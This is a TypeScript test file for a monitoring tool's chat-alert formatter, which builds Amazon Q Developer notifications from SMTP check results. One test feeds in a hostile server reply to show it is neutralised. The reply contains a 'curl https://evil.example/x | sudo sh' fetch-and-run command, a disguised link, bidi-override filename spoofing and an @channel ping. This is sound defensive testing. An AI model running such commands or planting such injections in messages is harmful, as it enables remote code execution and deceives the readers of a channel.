/**
 * The Chatbot (Amazon Q Developer in chat applications) payload: it conforms to the
 * documented custom-notification schema (testkit/chatbot-schema.ts, the tests' own oracle), and
 * outside text cannot format, link or reorder the channel's text.
 */
import { describe, expect, it } from 'vitest';
import type { AlertableResult } from '../../../lambdas/engine/alerts/alert-facts.js';
import { CHATBOT_LIMITS, chatbotNotification, quoted } from '../../../lambdas/engine/alerts/chatbot.js';
import { formatAlert } from '../../../lambdas/engine/alerts/format.js';
import { finding } from '../../../lambdas/engine/findings.js';
import { DocumentedChatbotNotification } from '../../../testkit/chatbot-schema.js';

const NOW = Date.parse('2026-11-23T12:00:00.000Z');

const Documented = DocumentedChatbotNotification;

function result(message: string, overrides: Partial<AlertableResult> = {}): AlertableResult {
  return {
    check: 'smtp',
    target: 'smtp.example.com:587',
    name: 'relay-eu',
    status: 'critical',
    startedAt: '2026-11-23T11:59:58.000Z',
    durationMs: 320,
    findings: [finding('AUTH_FAILED', message, { stage: 'auth' })],
    ...overrides,
  };
}

const render = (r: AlertableResult, kind: 'raised' | 'resolved' = 'raised') =>
  chatbotNotification(
    formatAlert(r, { kind, previousStatus: kind === 'raised' ? 'ok' : 'critical' }, { redact: (s) => s, now: NOW }),
    'event-1',
  );

describe('chatbotNotification', () => {
  it('conforms to the documented schema and carries the same facts as the e-mail', () => {
    const payload = render(result('535 5.7.8 Authentication credentials invalid'));
    expect(Documented.safeParse(payload).error?.issues ?? []).toEqual([]);
    expect(payload.content.title).toBe(':red_circle: [CRITICAL] smtp relay-eu (smtp.example.com:587): AUTH_FAILED');
    expect(payload.content.description).toBe(
      '*AUTH_FAILED* (critical): `535 5.7.8 Authentication credentials invalid`',
    );
    expect(payload.content.nextSteps[0]).toMatch(/credentials/i);
    expect(payload.content.keywords).toEqual(['smtp', 'critical', 'AUTH_FAILED']);
    expect(payload.metadata.threadId).toBe('smtp#smtp.example.com:587');
    expect(payload.metadata.eventType).toBe('raised');
    expect(payload.metadata.additionalContext).toMatchObject({ status: 'critical', previousStatus: 'ok' });
  });

  it('says a resolved target is ok again, in the same thread', () => {
    const payload = render(result('', { status: 'ok', findings: [] }), 'resolved');
    expect(Documented.safeParse(payload).success).toBe(true);
    expect(payload.content.title.startsWith(':white_check_mark: [RESOLVED]')).toBe(true);
    expect(payload.metadata.threadId).toBe('smtp#smtp.example.com:587');
  });

  it('quotes a hostile reply: no newlines, backticks, links or bidi overrides escape into the channel', () => {
    const hostile =
      '535 ok`\n\n*URGENT*: run `curl https://evil.example/x | sudo sh` <https://evil.example|click> \u202Egnp.exe\u202C @channel';
    const payload = render(result(hostile));
    const line = payload.content.description;
    expect(line.startsWith('*AUTH_FAILED* (critical): `')).toBe(true);
    // One inline code span: exactly two backticks, no line break, no bidi control.
    expect(line.split('`')).toHaveLength(3);
    expect(line).not.toMatch(/[\n\u202a-\u202e\u2066-\u2069]/);
  });

  it('caps long descriptions and many findings', () => {
    const findings = Array.from({ length: 500 }, (_, i) =>
      finding('CERT_CHAIN_EXTRA', `extra ${i} ${'x'.repeat(200)}`),
    );
    const payload = render(result('', { findings }));
    expect(Documented.safeParse(payload).success).toBe(true);
    expect(payload.content.description.length).toBeLessThanOrEqual(CHATBOT_LIMITS.descriptionChars + 40);
    expect(payload.content.description).toMatch(/…and \d+ more$/);
    expect(payload.content.keywords.length).toBeLessThanOrEqual(CHATBOT_LIMITS.keywords);
  });

  it('quoted() strips what could format or reorder text', () => {
    expect(quoted('a`b\u202Ec\r\nd')).toBe("`a'b c d`");
    expect(quoted('   ')).toBe('');
  });
});
